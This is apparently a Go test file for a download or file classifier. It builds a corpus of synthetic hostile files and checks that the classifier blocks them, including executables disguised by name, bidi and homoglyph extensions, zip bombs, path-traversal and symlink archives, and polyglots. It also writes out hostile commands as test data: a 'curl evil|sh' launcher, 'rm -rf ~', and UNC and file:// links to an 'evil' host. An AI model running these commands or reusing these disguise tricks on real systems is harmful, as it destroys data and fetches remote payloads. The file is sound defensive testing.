package classify

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"io/fs"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"
	"unicode"
)

// tcase is one generated corpus file and what the classifier must say.
type tcase struct {
	name   string
	data   []byte
	mode   fs.FileMode // 0 → 0o644
	want   Verdict
	reason string // a substring the reason must hold ("" → not checked)
}

// elfBzip2 is bzip2 -9 of the first 20 bytes of an ELF header (the Go
// standard library has no bzip2 writer).
var elfBzip2 = []byte{0x42, 0x5a, 0x68, 0x39, 0x31, 0x41, 0x59, 0x26, 0x53, 0x59, 0xb2, 0x35, 0xc3, 0x0a, 0x00, 0x00, 0x07, 0xcc, 0x80, 0x72, 0x00, 0x00, 0x01, 0x03, 0x04, 0x00, 0x00, 0xa0, 0x00, 0x22, 0x18, 0x43, 0x42, 0x0c, 0x98, 0x80, 0x2c, 0xb4, 0x5e, 0xe5, 0x49, 0x17, 0x8b, 0xb9, 0x22, 0x9c, 0x28, 0x48, 0x59, 0x1a, 0xe1, 0x85, 0x00}

var text = []byte("Library opening hours: Mon-Fri 9-18.\n")

var (
	corpusMu                sync.Mutex
	hostileMemo, benignMemo []tcase
)

// hostileCases must all be blocked. Built once per test binary; callers get
// a copy of the table (the data is shared and must not be modified).
func hostileCases(t testing.TB) []tcase {
	corpusMu.Lock()
	defer corpusMu.Unlock()
	if hostileMemo == nil {
		hostileMemo = buildHostile(t)
	}
	return append([]tcase(nil), hostileMemo...)
}

// benignCases must all be allowed (or allow-noexec where want says so).
func benignCases(t testing.TB) []tcase {
	corpusMu.Lock()
	defer corpusMu.Unlock()
	if benignMemo == nil {
		benignMemo = buildBenign(t)
	}
	return append([]tcase(nil), benignMemo...)
}

func buildHostile(t testing.TB) []tcase {
	cs := []tcase{
		// Content, whatever the name says.
		{name: "invoice.pdf", data: pe(), reason: "Windows program (PE)"},
		{name: "setup", data: pe(), reason: "PE"},
		{name: "dos.txt", data: []byte("MZ\x90\x00\x03\x00\x00\x00"), reason: "MZ"},
		{name: "cat.jpg", data: elf(), reason: "ELF"},
		{name: "macho32le.png", data: macho(false, false), reason: "Mach-O 32-bit"},
		{name: "macho32be.png", data: macho(false, true), reason: "Mach-O 32-bit"},
		{name: "macho64le.png", data: macho(true, false), reason: "Mach-O 64-bit"},
		{name: "macho64be.png", data: macho(true, true), reason: "Mach-O 64-bit"},
		{name: "universal.doc", data: fatMacho(), reason: "fat"},
		{name: "notes-sh.txt", data: []byte("#!/bin/sh\nrm -rf ~\n"), reason: "#!"},
		{name: "bom.txt", data: []byte("\xef\xbb\xbf#!/usr/bin/env python3\nprint(1)\n"), reason: "#!"},
		{name: "tool.py", data: []byte("#!/usr/bin/python3\nimport os\n"), reason: "#!"},
		{name: "tool2.py", data: []byte("import os\nos.system('id')\n"), mode: 0o755, reason: "executable permission bit"},
		{name: "install.dat", data: ole(clsidMSI, oleEntry{"\u4840\u3b3f\u4843", 2}), reason: "Windows Installer package (MSI)"},
		{name: "patch.dat", data: ole(clsidMSP), reason: "MSP"},
		{name: "transform.dat", data: ole(clsidMST), reason: "MST"},
		{name: "tables.dat", data: ole([16]byte{}, oleEntry{"\u4840\u3f7f\u4164\u422f\u4836", 2}), reason: "Windows Installer database"},
		{name: "packaged.doc", data: ole([16]byte{}, oleEntry{"WordDocument", 2}, oleEntry{"ObjectPool", 1}, oleEntry{"\x01Ole10Native", 2}), reason: "OLE package"},
		{name: "secret.docx", data: ole([16]byte{}, oleEntry{"EncryptionInfo", 2}, oleEntry{"EncryptedPackage", 2}), reason: "encrypted Office"},
		{name: "mail.msg", data: ole([16]byte{}, oleEntry{"__properties_version1.0", 2}, oleEntry{"__substg1.0_0037001F", 2}), reason: "Outlook"},
		{name: "mystery.bin", data: ole([16]byte{}, oleEntry{"Contents", 2}), reason: "unknown type"},
		{name: "broken.doc", data: append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), make([]byte, 600)...), reason: "corrupt compound file"},
		{name: "shortcut.txt", data: lnk(), reason: "LNK"},
		{name: "help.txt", data: append([]byte("ITSF\x03\x00\x00\x00"), make([]byte, 90)...), reason: "CHM"},
		{name: "disc.bin", data: iso(), reason: "ISO-9660"},
		{name: "udf.bin", data: udf(), reason: "UDF"},
		{name: "disk.bin", data: trailer512(randBytes(1, 4096), "conectix"), reason: "VHD"},
		{name: "disk2.bin", data: append([]byte("vhdxfile"), make([]byte, 1000)...), reason: "VHDX"},
		{name: "mac.bin", data: trailer512(randBytes(2, 8192), "koly"), reason: "DMG"},
		{name: "archive.zip", data: append([]byte("MSCF\x00\x00\x00\x00"), make([]byte, 40)...), reason: "cannot inspect CAB"},
		{name: "archive2.zip", data: append([]byte("7z\xbc\xaf\x27\x1c\x00\x04"), make([]byte, 40)...), reason: "cannot inspect 7z"},
		{name: "archive3.zip", data: append([]byte("Rar!\x1a\x07\x00"), make([]byte, 40)...), reason: "cannot inspect RAR contents (RAR4)"},
		{name: "archive4.zip", data: append([]byte("Rar!\x1a\x07\x01\x00"), make([]byte, 40)...), reason: "cannot inspect RAR contents (RAR5)"},
		{name: "archive5.gz", data: append([]byte("\xfd7zXZ\x00\x00\x04"), make([]byte, 40)...), reason: "cannot inspect xz"},
		{name: "launcher.txt", data: []byte("# made by hand\n[Desktop Entry]\nType=Application\nName=Cat\nExec=sh -c 'curl evil|sh'\n"), reason: "desktop launcher"},
		{name: "link.txt", data: []byte("[InternetShortcut]\r\nURL=file://evil/share/x.exe\r\n"), reason: "Internet shortcut"},
		{name: "scf.txt", data: []byte("[Shell]\r\nCommand=2\r\nIconFile=\\\\evil\\share\\x.ico\r\n"), reason: ".scf"},
		{name: "settings.txt", data: []byte("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software]\r\n"), reason: "registry file"},
		{name: "deb.bin", data: []byte("!<arch>\ndebian-binary   "), reason: "ar"},

		// Names: tricks that hide or fake the real extension.
		{name: "invoice\u202Efdp.exe", data: text, reason: "U+202E"},
		{name: "photo\u2067gpj.scr", data: text, reason: "U+2067"},
		{name: "report\u200F.pdf", data: text, reason: "U+200F"},
		{name: "photo.\u0435x\u0435", data: text, reason: "disguised extension"},
		{name: "photo.\u0455\u0441r", data: text, reason: "reads as .scr"},
		{name: "setup.\uff45\uff58\uff45", data: text, reason: "reads as .exe"},
		{name: "setup.e\u200Bxe", data: text, reason: "reads as .exe"},
		{name: "setup.EXE", data: text, reason: ".exe"},
		{name: "setup.exe...", data: text, reason: "trailing dots"},
		{name: "setup.exe   ", data: text, reason: "trailing dots or spaces"},
		{name: "setup.exe::$DATA", data: text, reason: "alternate data stream"},
		{name: "notes.txt:evil.exe", data: text, reason: "alternate data stream"},
		{name: "report.pdf.exe", data: text, reason: "double extension"},
		{name: "report.pdf            .exe", data: text, reason: ".exe"},
		{name: "setup.exe.crdownload", data: text, reason: ".exe"},
		{name: "folder.{20D04FE0-3AEA-1069-A2D8-08002B30309D}", data: text, reason: "CLSID"},
		{name: "line\nbreak.txt", data: text, reason: "control character"},
	}
	// The dangerous extensions by name alone, with harmless text inside.
	for _, ext := range []string{"exe", "com", "scr", "pif", "bat", "cmd", "ps1", "psm1", "psd1", "vbs", "vbe",
		"js", "jse", "wsf", "wsh", "hta", "msi", "msp", "mst", "msix", "appx", "appxbundle", "lnk", "url",
		"library-ms", "settingcontent-ms", "cpl", "dll", "ocx", "sys", "jar", "reg", "inf", "scf", "chm",
		"iso", "img", "vhd", "vhdx", "application", "appref-ms", "gadget", "xll", "xbap", "msc",
		"desktop", "AppImage", "run", "sh", "command", "pkg", "mpkg", "dmg", "deb", "rpm", "rar", "7z", "cab"} {
		cs = append(cs, tcase{name: "file." + ext, data: text, reason: "." + strings.ToLower(ext)})
	}

	// Archives.
	dz, crc := zeroDeflate(t, 1024)
	bomb := rawZip(t, &zip.FileHeader{Name: "zeros.txt", Method: zip.Deflate, CRC32: crc,
		CompressedSize64: uint64(len(dz)), UncompressedSize64: 1 << 30}, dz)
	liar := rawZip(t, &zip.FileHeader{Name: "small.txt", Method: zip.Deflate, CRC32: crc,
		CompressedSize64: uint64(len(dz)), UncompressedSize64: 100}, dz)
	enc := rawZip(t, &zip.FileHeader{Name: "report.pdf", Method: zip.Store, Flags: 0x1,
		CompressedSize64: 12, UncompressedSize64: 12}, randBytes(3, 12))
	lzma := rawZip(t, &zip.FileHeader{Name: "doc.pdf", Method: 14, CompressedSize64: 20, UncompressedSize64: 40}, randBytes(4, 20))
	nested := zipOf(t, zent{name: "inner.zip", data: zipOf(t, zent{name: "readme.txt", data: text}, zent{name: "setup.bin", data: pe()})})
	deep := zipOf(t, zent{name: "readme.txt", data: text})
	for i := 0; i < 6; i++ {
		deep = zipOf(t, zent{name: "level" + itoa(i) + ".zip", data: deep})
	}
	var many []zent
	for i := 0; i <= DefaultConfig().MaxEntries; i++ {
		many = append(many, zent{name: "f" + itoa(i) + ".txt", data: []byte("x"), method: 0xffff})
	}
	corrupt := zipOf(t, zent{name: "notes.txt", data: bytes.Repeat(text, 50)})
	corrupt[39+30] ^= 0xff // in the middle of the deflate data: CRC or inflate fails
	badCRC := rawZip(t, &zip.FileHeader{Name: "notes.txt", Method: zip.Store, CRC32: 12345,
		CompressedSize64: uint64(len(text)), UncompressedSize64: uint64(len(text))}, text)
	truncated := zipOf(t, zent{name: "notes.txt", data: bytes.Repeat(text, 50)})
	truncated = truncated[:len(truncated)-30]
	cs = append(cs,
		tcase{name: "invoice.zip", data: zipOf(t, zent{name: "readme.txt", data: text}, zent{name: "setup.exe", data: pe()}), reason: "Windows program (PE) inside invoice.zip/setup.exe"},
		tcase{name: "photos.zip", data: zipOf(t, zent{name: "cat.jpg", data: pe()}), reason: "PE) inside photos.zip/cat.jpg"},
		tcase{name: "names.zip", data: zipOf(t, zent{name: "docs/report.pdf.exe", data: text}), reason: "inside names.zip/docs/report.pdf.exe"},
		tcase{name: "bidi.zip", data: zipOf(t, zent{name: "invoice\u202Efdp.js", data: text}), reason: "U+202E"},
		tcase{name: "invoice2.zip", data: nested, reason: "inside invoice2.zip/inner.zip/setup.bin"},
		tcase{name: "deep.zip", data: deep, reason: "nested more than 5 deep"},
		tcase{name: "bomb.zip", data: bomb, reason: "archive bomb"},
		tcase{name: "liar.zip", data: liar, reason: "inside liar.zip/small.txt"},
		tcase{name: "many.zip", data: zipOf(t, many...), reason: "more than 10000 entries"},
		tcase{name: "encrypted.zip", data: enc, reason: "encrypted"},
		tcase{name: "lzma.zip", data: lzma, reason: "unsupported compression method 14"},
		tcase{name: "corrupt.zip", data: corrupt, reason: "corrupt"},
		tcase{name: "badcrc.zip", data: badCRC, reason: "checksum"},
		tcase{name: "truncated.zip", data: truncated, reason: "corrupt zip"},
		tcase{name: "slip.zip", data: zipOf(t, zent{name: "../../Startup/evil.txt", data: text}), reason: "escapes the archive"},
		tcase{name: "symlink.zip", data: zipOf(t, zent{name: "docs", data: []byte("/etc"), mode: fs.ModeSymlink | 0o777}), reason: "symbolic link"},
		tcase{name: "dirattr.zip", data: zipOf(t, zent{name: "setup.bin", data: pe(), mode: fs.ModeDir | 0o755}), reason: "PE) inside dirattr.zip/setup.bin"},
		tcase{name: "app.zip", data: zipOf(t, zent{name: "Viewer.app/Contents/MacOS/Viewer", data: text}), reason: "application bundle"},
		tcase{name: "tool.zip", data: zipOf(t, zent{name: "tool", data: macho(true, false), mode: 0o755}), reason: "Mach-O 64-bit) inside tool.zip/tool"},
		tcase{name: "app.appx", data: zipOf(t, zent{name: "AppxManifest.xml", data: []byte("<Package/>")}), reason: "app package"},
		tcase{name: "pkg.zip", data: zipOf(t, zent{name: "AppxManifest.xml", data: []byte("<Package/>")}, zent{name: "AppxBlockMap.xml", data: []byte("<BlockMap/>")}), reason: "APPX"},
		tcase{name: "game.zip", data: zipOf(t, zent{name: "META-INF/MANIFEST.MF", data: []byte("Main-Class: a.Main\n")}, zent{name: "a/Main.class", data: []byte("\xca\xfe\xba\xbe\x00\x00\x00\x34")}), reason: "Java"},
		tcase{name: "embedded.docx", data: ooxml(t, "docx", zent{name: "word/embeddings/oleObject1.bin", data: ole([16]byte{}, oleEntry{"\x01Ole10Native", 2})}), reason: "OLE package"},
		tcase{name: "fake-vba.docm", data: ooxml(t, "docx", zent{name: "word/embeddings/vbaProject.bin", data: ole([16]byte{}, oleEntry{"\x01Ole10Native", 2}, oleEntry{"PROJECT", 2})}), reason: "OLE package"},
		tcase{name: "cat-polyglot.jpg", data: append(jpg(30), zipOf(t, zent{name: "run.exe", data: pe()})...), reason: "hidden behind other data: Windows program (PE) inside cat-polyglot.jpg/run.exe"},
		tcase{name: "junk-prefixed.zip", data: append([]byte("JUNK"), zipOf(t, zent{name: "a.txt", data: text}, zent{name: "a.vbs", data: text})...), reason: ".vbs"},
		tcase{name: "nested-polyglot.zip", data: zipOf(t, zent{name: "cat.jpg", data: append(jpg(31), zipOf(t, zent{name: "x.txt", data: text})...)}), reason: "hidden behind other data inside nested-polyglot.zip/cat.jpg"},
		tcase{name: "bundle.zip.gz", data: gz(t, zipOf(t, zent{name: "docs/readme.txt", data: text}, zent{name: "docs/update.msi", data: ole(clsidMSI)}), "bundle.zip"), reason: "Windows Installer package) inside bundle.zip.gz/docs/update.msi"},
		tcase{name: "mixed.zip", data: zipOf(t, zent{name: "src.tar", data: tarOf(t, tent{name: "src/build", data: []byte("#!/bin/sh\nmake\n"), mode: 0o644})}), reason: "#!) inside mixed.zip/src.tar/src/build"},
		tcase{name: "shortcut.zip", data: zipOf(t, zent{name: "Documents.lnk", data: lnk()}), reason: "lnk"},
		tcase{name: "iso.zip", data: zipOf(t, zent{name: "disc.img.txt", data: iso()}), reason: "ISO-9660"},
		tcase{name: "dmg.zip", data: zipOf(t, zent{name: "mac.bin", data: trailer512(randBytes(5, 3000), "koly")}), reason: "DMG"},
		tcase{name: "backup.tar", data: tarOf(t, tent{name: "docs/a.txt", data: text}, tent{name: "docs/run", data: elf()}), reason: "ELF) inside backup.tar/docs/run"},
		tcase{name: "backup.tar.gz", data: gz(t, tarOf(t, tent{name: "setup.exe", data: text}), ""), reason: "inside backup.tar.gz/setup.exe"},
		tcase{name: "backup.tgz", data: gz(t, tarOf(t, tent{name: "x/y.bin", data: pe()}), ""), reason: "PE) inside backup.tgz/x/y.bin"},
		tcase{name: "slip.tar", data: tarOf(t, tent{name: "../../.bashrc", data: text}), reason: "escapes the archive"},
		tcase{name: "link.tar", data: tarOf(t, tent{name: "passwd", typ: tar.TypeSymlink, linkname: "/etc/passwd"}), reason: "outside the archive"},
		tcase{name: "dev.tar", data: tarOf(t, tent{name: "sda", typ: tar.TypeBlock}), reason: "device"},
		tcase{name: "script.tar", data: tarOf(t, tent{name: "go.py", data: []byte("print(1)\n"), mode: 0o755}), reason: "executable permission bit inside script.tar/go.py"},
		tcase{name: "program.gz", data: gz(t, elf(), "program"), reason: "ELF) inside program.gz"},
		tcase{name: "named.gz", data: gz(t, text, "readme.exe"), reason: ".exe"},
		tcase{name: "program.bz2", data: elfBzip2, reason: "ELF"},
		tcase{name: "zeros.gz", data: gzipZeros(t, 1024), reason: "archive bomb"},
		tcase{name: "truncated.tar.gz", data: gz(t, tarOf(t, tent{name: "a.txt", data: randBytes(15, 5000)}), "")[:3000], reason: "corrupt"},
		tcase{name: "badcrc.gz", data: func() []byte { b := gz(t, bytes.Repeat(text, 10), "x.txt"); b[len(b)-6] ^= 1; return b }(), reason: "corrupt"},
	)
	cs = append(cs, formatsWhere(t, true)...)
	for i := range cs {
		cs[i].want = Block
	}
	return cs
}

func buildBenign(t testing.TB) []tcase {
	docx := ooxml(t, "docx")
	cs := []tcase{
		{name: "report.pdf", data: pdf("Annual report")},
		{name: "Şəhər_xəritəsi.pdf", data: pdf("Baki")},
		{name: "城市地图.pdf", data: pdf("map")},
		{name: "خريطة المدينة.pdf", data: pdf("map")},
		{name: "χάρτης.pdf", data: pdf("map")},
		{name: "отчёт.docx", data: docx},
		{name: "می‌خواهم.txt", data: []byte("ZWNJ is part of Persian spelling\n")},
		{name: "🎉 party.png", data: pngOf(1)},
		{name: "👩‍👩‍👧 family.jpg", data: jpg(2)},
		{name: "सूची.csv", data: []byte("title,author\nGitanjali,Tagore\n")},
		{name: "一覧表.xlsx", data: ooxml(t, "xlsx")},
		{name: "letter.docx", data: docx},
		{name: "budget.xlsx", data: ooxml(t, "xlsx")},
		{name: "slides.pptx", data: ooxml(t, "pptx")},
		{name: "essay.odt", data: odf(t, "application/vnd.oasis.opendocument.text")},
		{name: "sheet.ods", data: odf(t, "application/vnd.oasis.opendocument.spreadsheet")},
		{name: "book.epub", data: epub(t)},
		{name: "photo.jpg", data: jpg(3)},
		{name: "photo.jpeg", data: jpg(4)},
		{name: "diagram.png", data: pngOf(5)},
		{name: "anim.gif", data: gifOf(6)},
		{name: "song.mp3", data: mp3(7)},
		{name: "notes.txt", data: text},
		{name: "data.csv", data: []byte("id,name\n1,Ada\n2,Grace\n")},
		{name: "page.html", data: []byte("<!doctype html><html><body><p>Hello</p></body></html>\n")},
		{name: "page.htm", data: []byte("<html><script>alert(1)</script></html>\n")},
		{name: "data.json", data: []byte(`{"a":1}`)},
		{name: "feed.xml", data: []byte(`<?xml version="1.0"?><rss/>`)},
		{name: "icon.svg", data: []byte(`<svg xmlns="http://www.w3.org/2000/svg"/>`)},
		{name: "letter.rtf", data: []byte(`{\rtf1\ansi Hello}`)},
		{name: "empty.txt", data: nil},
		{name: "random.bin", data: randBytes(8, 100000)},
		{name: "documents.zip", data: zipOf(t, zent{name: "a/report.pdf", data: pdf("x")}, zent{name: "a/letter.docx", data: docx},
			zent{name: "b/photo.png", data: pngOf(9)}, zent{name: "b/", data: nil}, zent{name: "data.csv", data: []byte("a,b\n")})},
		{name: "nested-docs.zip", data: zipOf(t, zent{name: "inner.zip", data: zipOf(t, zent{name: "notes.txt", data: text})})},
		{name: "docs.tar.gz", data: gz(t, tarOf(t, tent{name: "docs/", typ: tar.TypeDir, mode: 0o755}, tent{name: "docs/a.pdf", data: pdf("a")},
			tent{name: "docs/latest.pdf", typ: tar.TypeSymlink, linkname: "a.pdf"}), "")},
		{name: "docs.tar", data: tarOf(t, tent{name: "a.txt", data: text}, tent{name: "b.png", data: pngOf(10)})},
		{name: "table.csv.gz", data: gz(t, []byte("a,b\n1,2\n"), "table.csv")},
		{name: "report.exe.pdf", data: pdf("not a program")},
		{name: "Meeting 10:30.pdf", data: pdf("agenda")},
		{name: "v1.2 final.docx", data: docx},
		{name: "legacy.doc", data: ole([16]byte{}, oleEntry{"WordDocument", 2}, oleEntry{"1Table", 2}, oleEntry{"\x05SummaryInformation", 2})},
		{name: "flyer.pub", data: ole([16]byte{}, oleEntry{"Quill", 1}, oleEntry{"Contents", 2})},
		{name: "legacy.xls", data: ole([16]byte{}, oleEntry{"Workbook", 2})},
		{name: "chart.docx", data: ooxml(t, "docx", zent{name: "word/embeddings/Microsoft_Excel_Worksheet.xlsx", data: ooxml(t, "xlsx")})},
		{name: "mostly-zeros.zip", data: zipOf(t, zent{name: "blank.bmp", data: append([]byte("BM"), make([]byte, 3<<20)...)})},
		{name: "sound.wav", data: append([]byte("RIFF\x24\x00\x00\x00WAVEfmt "), randBytes(11, 2000)...)},
		{name: "clip.mp4", data: append([]byte("\x00\x00\x00\x18ftypmp42"), randBytes(12, 2000)...)},
		{name: "Tabelle März.csv", data: []byte("Monat;Summe\nMärz;3\n")},
		{name: "caf\xe9 menu.pdf", data: pdf("Latin-1 name, not UTF-8")},
		{name: "py-notes.py", data: []byte("print('hello')\n")},

		// Allowed, but never to be executed.
		{name: "notes-exec.txt", data: text, mode: 0o755, want: AllowNoExec, reason: "executable permission bit"},
		{name: "macros.docm", data: ooxml(t, "docx", zent{name: "word/vbaProject.bin", data: ole([16]byte{}, oleEntry{"VBA", 1}, oleEntry{"PROJECT", 2})}), want: AllowNoExec, reason: "macros"},
		{name: "macros.xls", data: ole([16]byte{}, oleEntry{"Workbook", 2}, oleEntry{"_VBA_PROJECT_CUR", 1}, oleEntry{"VBA", 1}), want: AllowNoExec, reason: "macros"},
	}
	cs = append(cs, formatsWhere(t, false)...)
	for i := range cs {
		if cs[i].want == "" {
			cs[i].want = Allow
		}
	}
	return cs
}

func writeCorpus(t testing.TB, dir string, cs []tcase) {
	t.Helper()
	for _, c := range cs {
		mode := c.mode
		if mode == 0 {
			mode = 0o644
		}
		p := filepath.Join(dir, c.name)
		if err := os.WriteFile(p, c.data, mode); err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(p, mode); err != nil { // past the umask
			t.Fatal(err)
		}
	}
}

func sum(b []byte) string { s := sha256.Sum256(b); return hex.EncodeToString(s[:]) }

func checkCase(t *testing.T, c tcase, r Result) {
	t.Helper()
	if r.Verdict != c.want {
		t.Errorf("%+q: verdict %s (%s), want %s", c.name, r.Verdict, r.Reason, c.want)
		return
	}
	if c.reason != "" && !strings.Contains(r.Reason, c.reason) {
		t.Errorf("%+q: reason %q, want it to mention %q", c.name, r.Reason, c.reason)
	}
	if unsafeText(r.Reason) {
		t.Errorf("%+q: reason %+q carries control or format characters", c.name, r.Reason)
	}
	if r.SHA256 != sum(c.data) || r.Size != int64(len(c.data)) {
		t.Errorf("%+q: sha256 %s size %d, want %s %d", c.name, r.SHA256, r.Size, sum(c.data), len(c.data))
	}
}

// unsafeText reports characters that would reorder, hide or break the text
// of a reason where staff read it.
func unsafeText(s string) bool {
	return strings.ContainsFunc(s, func(r rune) bool { return unicode.IsControl(r) || unicode.Is(unicode.Cf, r) })
}

func TestCorpusCounts(t *testing.T) {
	h, b := hostileCases(t), benignCases(t)
	if len(h) < 60 || len(b) < 40 {
		t.Fatalf("corpus has %d hostile and %d benign cases, want at least 60 and 40", len(h), len(b))
	}
	seen := map[string]bool{}
	for _, c := range append(h, b...) {
		if seen[c.name] {
			t.Fatalf("duplicate corpus name %q", c.name)
		}
		seen[c.name] = true
	}
}

// TestCorpusFiles writes the whole corpus to disk and judges it with File:
// every hostile file blocked, every benign one allowed and left untouched.
func TestCorpusFiles(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("the corpus has names Windows cannot create (':', newlines); TestCorpusReader judges the same cases through Reader")
	}
	dir := t.TempDir()
	hostile, benign := hostileCases(t), benignCases(t)
	writeCorpus(t, dir, hostile)
	writeCorpus(t, dir, benign)
	before := map[string]fs.FileInfo{}
	for _, c := range benign {
		st, err := os.Stat(filepath.Join(dir, c.name))
		if err != nil {
			t.Fatal(err)
		}
		before[c.name] = st
	}
	cl := New(DefaultConfig())
	for _, c := range append(hostile, benign...) {
		r, err := cl.File(filepath.Join(dir, c.name))
		if err != nil {
			t.Errorf("%+q: %v", c.name, err)
			continue
		}
		checkCase(t, c, r)
	}
	for _, c := range benign {
		p := filepath.Join(dir, c.name)
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		st, _ := os.Stat(p)
		if sum(b) != sum(c.data) || st.ModTime() != before[c.name].ModTime() || st.Mode() != before[c.name].Mode() {
			t.Errorf("%+q changed by classification", c.name)
		}
	}
}

// TestCorpusRates reports the share of hostile files blocked and of benign
// files kept; both must be 100 %.
func TestCorpusRates(t *testing.T) {
	cl := New(DefaultConfig())
	rate := func(cs []tcase) (ok int) {
		for _, c := range cs {
			if r, err := cl.Reader(c.name, bytes.NewReader(c.data), int64(len(c.data)), c.mode); err == nil && r.Verdict == c.want {
				ok++
			}
		}
		return ok
	}
	h, b := hostileCases(t), benignCases(t)
	hok, bok := rate(h), rate(b)
	t.Logf("hostile blocked: %d/%d (%.1f %%); benign kept: %d/%d (%.1f %%)", hok, len(h), 100*float64(hok)/float64(len(h)), bok, len(b), 100*float64(bok)/float64(len(b)))
	if hok != len(h) || bok != len(b) {
		t.Errorf("want 100 %% of both")
	}
}

// TestCorpusReader judges the same corpus from memory.
func TestCorpusReader(t *testing.T) {
	cl := New(DefaultConfig())
	for _, c := range append(hostileCases(t), benignCases(t)...) {
		r, err := cl.Reader(c.name, bytes.NewReader(c.data), int64(len(c.data)), c.mode)
		if err != nil {
			t.Errorf("%+q: %v", c.name, err)
			continue
		}
		checkCase(t, c, r)
	}
}

func TestOfficeMacrosPolicy(t *testing.T) {
	cfg := DefaultConfig()
	cfg.BlockOfficeMacros = true
	cl := New(cfg)
	docm := ooxml(t, "docx", zent{name: "word/vbaProject.bin", data: ole([16]byte{}, oleEntry{"VBA", 1}, oleEntry{"PROJECT", 2})})
	xls := ole([16]byte{}, oleEntry{"Workbook", 2}, oleEntry{"_VBA_PROJECT_CUR", 1})
	for _, c := range []tcase{
		{name: "letter.docx", data: docm, want: Block, reason: "macros inside letter.docx/word/vbaProject.bin"},
		{name: "sheet.xls", data: xls, want: Block, reason: "macros"},
		{name: "plain.docx", data: ooxml(t, "docx"), want: Allow},
	} {
		r, err := cl.Reader(c.name, bytes.NewReader(c.data), int64(len(c.data)), 0)
		if err != nil {
			t.Fatal(err)
		}
		checkCase(t, c, r)
	}
	if r, ok := cl.Name("budget.xlsm"); !ok || r.Verdict != Block {
		t.Errorf("Name(budget.xlsm) with macros blocked = %+v, %v", r, ok)
	}
	if _, ok := New(DefaultConfig()).Name("budget.xlsm"); ok {
		t.Error("Name(budget.xlsm) blocked by default")
	}
}

func TestHashLists(t *testing.T) {
	exe, doc := pe(), pdf("x")
	cfg := DefaultConfig()
	cfg.AllowSHA256 = []string{strings.ToUpper(sum(exe)), sum(doc)}
	cfg.BlockSHA256 = []string{" " + sum(doc) + " "}
	if err := cfg.Validate(); err != nil {
		t.Fatal(err)
	}
	cl := New(cfg)
	r, _ := cl.Reader("setup.exe", bytes.NewReader(exe), int64(len(exe)), 0)
	if r.Verdict != Allow || !strings.Contains(r.Reason, "allow list") {
		t.Errorf("allow-listed exe: %+v", r)
	}
	r, _ = cl.Reader("a.pdf", bytes.NewReader(doc), int64(len(doc)), 0)
	if r.Verdict != Block || !strings.Contains(r.Reason, "block list") {
		t.Errorf("block list must win over allow list: %+v", r)
	}
	bad := DefaultConfig()
	bad.BlockSHA256 = []string{"abc"}
	if bad.Validate() == nil {
		t.Error("Validate accepted a short hash")
	}
}

func TestName(t *testing.T) {
	cl := New(DefaultConfig())
	for _, c := range []struct {
		name  string
		block bool
	}{
		{"setup.exe.crdownload", true},
		{"Unconfirmed 123456.crdownload", false},
		{"movie.mp4.part", false},
		{"photo.\u0435x\u0435.part", true},
		{"C:\\Users\\p\\Downloads\\Viewer.app\\Contents\\Info.plist", true},
		{"/home/p/Downloads/Şəhər_xəritəsi.pdf", false},
		{"report.pdf", false},
		{"a.txt:b.vbs", true},
		{"a.txt::$DATA", false},
		{"README", false},
		{"archive.tar.xz", true},
	} {
		r, ok := cl.Name(c.name)
		if ok != c.block || (r.Verdict == Block) != c.block {
			t.Errorf("Name(%+q) = %+v, %v; want block %v", c.name, r, ok, c.block)
		}
	}
}

func TestFileRefusesLinksAndSpecialFiles(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("symbolic links need real Windows (Wine 8 cannot make them) and this test's temp dir cleanup needs os.RemoveAll")
	}
	dir := t.TempDir()
	target := filepath.Join(dir, "real.pdf")
	os.WriteFile(target, pdf("x"), 0o644)
	link := filepath.Join(dir, "link.pdf")
	if err := os.Symlink(target, link); err != nil {
		t.Skip("no symlinks here:", err)
	}
	cl := New(DefaultConfig())
	r, err := cl.File(link)
	if err != nil || r.Verdict != Block || r.Reason != "symbolic link" {
		t.Errorf("File(symlink) = %+v, %v", r, err)
	}
	r, err = cl.File(dir)
	if err != nil || r.Verdict != Block {
		t.Errorf("File(dir) = %+v, %v", r, err)
	}
	r, err = cl.File(filepath.Join(dir, "missing"))
	if err == nil || r.Verdict != Block {
		t.Errorf("File(missing) = %+v, %v; want an error and block", r, err)
	}
}

// failingReaderAt fails after off bytes, like a disk error.
type failingReaderAt struct {
	b   []byte
	off int64
}

var errDisk = os.ErrDeadlineExceeded

func (f failingReaderAt) ReadAt(p []byte, off int64) (int, error) {
	if off+int64(len(p)) > f.off {
		return 0, errDisk
	}
	return copy(p, f.b[off:]), nil
}

func TestReadErrorIsNotAVerdict(t *testing.T) {
	data := randBytes(13, 3<<20)
	cl := New(DefaultConfig())
	r, err := cl.Reader("big.bin", failingReaderAt{data, 2 << 20}, int64(len(data)), 0)
	if err == nil || r.Verdict != Block {
		t.Fatalf("Reader over a failing disk = %+v, %v; want block and an error", r, err)
	}
	z := zipOf(t, zent{name: "a.txt", data: randBytes(14, 1<<20)})
	r, err = cl.Reader("a.zip", failingReaderAt{z, int64(len(z)) - 100}, int64(len(z)), 0)
	if err == nil || r.Verdict != Block {
		t.Fatalf("Reader of a zip over a failing disk = %+v, %v; want block and an error", r, err)
	}
}
